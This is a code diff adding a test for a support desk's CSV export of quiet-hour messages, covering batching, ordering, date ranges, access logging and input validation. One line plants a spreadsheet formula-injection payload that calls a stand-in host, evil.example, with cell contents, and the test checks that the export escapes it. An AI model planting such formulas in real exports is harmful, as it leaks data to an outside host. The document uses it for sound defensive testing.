@@ -530,6 +530,91 @@ describe.each(['pglite', 'postgres'] as const)('the support desk after a sync on
     }
   })
 
+  it('exports every quiet-hour send of a number, past the 500 the page lists, in batches, guarded, and logged', async () => {
+    const n0 = account.numbers[0]!
+    const expected = quietHourSends(all.filter((m) => m.number === n0.number))
+    // More than the page lists (DESK_MAX_ROWS): the export is the only way to the older ones.
+    expect(expected.length).toBeGreaterThan(500)
+    const page = await get(`/api/desk/quiet-hours?number=${n0.number}&limit=500`)
+    expect(page.quiet).toBe(expected.length)
+    expect(page.rows).toHaveLength(500)
+    // A quiet send whose text a spreadsheet would run as a formula.
+    const target = page.rows[3]!.ordinal as number
+    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Good night")'
+    const old = await rooms.db.query<{ body: string | null; body_id: number | null }>(
+      'SELECT body, body_id FROM index_messages WHERE number = $1 AND ordinal = $2',
+      [n0.number, target],
+    )
+    await rooms.db.query('UPDATE index_messages SET body = $3, body_id = NULL WHERE number = $1 AND ordinal = $2', [
+      n0.number,
+      target,
+      formula,
+    ])
+    DESK_EXPORT.batch = 97
+    try {
+      const r = await call(port(), 'GET', `/api/desk/quiet-hours/export?number=${n0.number}`)
+      expect(r.status, r.text.slice(0, 300)).toBe(200)
+      expect(r.headers['content-type']).toBe('text/csv; charset=utf-8')
+      expect(r.headers['x-row-count']).toBe(String(expected.length))
+      expect(r.headers['content-disposition']).toBe(
+        `attachment; filename="switchboard-quiet-hours-${n0.number}-${expected.length}-rows-${today()}.csv"`,
+      )
+      const [header, ...rows] = parseCsv(r.text)
+      expect(header).toEqual(['number', 'customer', 'sent_at', 'customer_local_day', 'text', 'ordinal'])
+      expect(rows).toHaveLength(expected.length)
+      // Every quiet send once, newest first, the page's 500 first and in the page's order.
+      expect(rows.map((x) => Number(x[5])).sort((a, b) => a - b)).toEqual(
+        expected.map((q) => (q.message as Msg).ordinal).sort((a, b) => a - b),
+      )
+      expect(rows.slice(0, 500).map((x) => [x[1], x[2], x[3], Number(x[5])])).toEqual(
+        page.rows.map((x) => [x.party, x.date, x.localDay, x.ordinal]),
+      )
+      const day = new Map(expected.map((q) => [(q.message as Msg).ordinal, q.local.day]))
+      expect(rows.every((x) => x[0] === n0.number && day.get(Number(x[5])) === x[3])).toBe(true)
+      expect(rows.find((x) => Number(x[5]) === target)![4]).toBe(`'${formula}`)
+      expect(rows.some((x) => x[4] === formula)).toBe(false)
+
+      // The page's range: the report's own count over those days.
+      const first = expected.map((q) => q.local.day).sort()[0]!
+      const fromDay = rows[Math.floor(rows.length / 2)]![2]!.slice(0, 10)
+      const ranged = await get(`/api/desk/quiet-hours?number=${n0.number}&from=${first}&to=${fromDay}&limit=500`)
+      const part = await call(port(), 'GET', `/api/desk/quiet-hours/export?number=${n0.number}&from=${first}&to=${fromDay}`)
+      expect(part.status, part.text.slice(0, 300)).toBe(200)
+      const partRows = parseCsv(part.text).slice(1)
+      expect(partRows).toHaveLength(ranged.quiet as number)
+      expect(partRows.every((x) => x[2]!.slice(0, 10) >= first && x[2]!.slice(0, 10) <= fromDay)).toBe(true)
+    } finally {
+      DESK_EXPORT.batch = 1000
+      await rooms.db.query('UPDATE index_messages SET body = $3, body_id = $4 WHERE number = $1 AND ordinal = $2', [
+        n0.number,
+        target,
+        old.rows[0]!.body,
+        old.rows[0]!.body_id,
+      ])
+    }
+    const reads = await rooms.db.query<{ details: Record<string, unknown> }>(
+      `SELECT details FROM access_log WHERE action = 'quiet-hours.export' ORDER BY id`,
+    )
+    expect(reads.rows.map((x) => [x.details.number, x.details.rows])).toEqual([
+      [n0.number, expected.length],
+      [n0.number, expect.any(Number)],
+    ])
+    const done = await exportsDone('quiet-hours')
+    expect(done.map((d) => [d.number, d.rows, d.complete, d.format])).toEqual([
+      [n0.number, expected.length, true, 'csv'],
+      [n0.number, reads.rows[1]!.details.rows, true, 'csv'],
+    ])
+    for (const [path, field] of [
+      ['/api/desk/quiet-hours/export', 'number'],
+      [`/api/desk/quiet-hours/export?number=${n0.number}&limit=5`, 'limit'],
+      [`/api/desk/quiet-hours/export?number=${n0.number}&from=2026-11-20&to=2026-11-01`, 'to'],
+    ] as const) {
+      const bad = await call(port(), 'GET', path)
+      expect(bad.status, `${path}: ${bad.text}`).toBe(400)
+      expect(bad.json().error).toMatchObject({ kind: 'invalid_request', field })
+    }
+  })
+
   it('shows nothing of a forgotten number, and forgetDesk deletes its rows', async () => {
     const r = await call(port(), 'POST', '/api/index/forget', { json: { number: DESK.number } })
     expect(r.status, r.text).toBe(200)
@@ -540,7 +625,7 @@ describe.each(['pglite', 'postgres'] as const)('the support desk after a sync on
     expect((await get(`/api/desk/needs-reply?at=${AT}&number=${DESK.number}`)).rows).toEqual([])
     expect((await get(`/api/desk/sent-after-opt-out?number=${DESK.number}`)).rows).toEqual([])
     await rooms.db.transaction((tx) => forgetDesk(tx, DESK.number))
-    for (const table of ['desk_messages', 'desk_threads', 'desk_sent_after', 'desk_dirty', 'desk_handled']) {
+    for (const table of ['desk_messages', 'desk_segment_days', 'desk_threads', 'desk_sent_after', 'desk_dirty', 'desk_handled']) {
       const left = await rooms.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM ${table} WHERE number = $1`, [DESK.number])
       expect(left.rows[0]!.n, table).toBe(0)
     }
@@ -557,7 +642,7 @@ describe.each(['pglite', 'postgres'] as const)('the support desk after a sync on
          desk_extra = NULL, desk_local_day = NULL, desk_quiet = NULL`,
     )
     await rooms.db.query('UPDATE index_numbers SET desk_behind = true')
-    await rooms.db.query('TRUNCATE desk_quiet_days, desk_threads, desk_sent_after, desk_dirty')
+    await rooms.db.query('TRUNCATE desk_quiet_days, desk_segment_days, desk_threads, desk_sent_after, desk_dirty')
     expect(await refreshAllDesk(rooms.db)).toMatchObject({ messages: n0.baseTotal })
     expect(await get(`/api/desk/opt-outs?number=${n0.number}&limit=500`)).toEqual(before)
     expect(await refreshAllDesk(rooms.db)).toEqual({ messages: 0, threads: 0 })
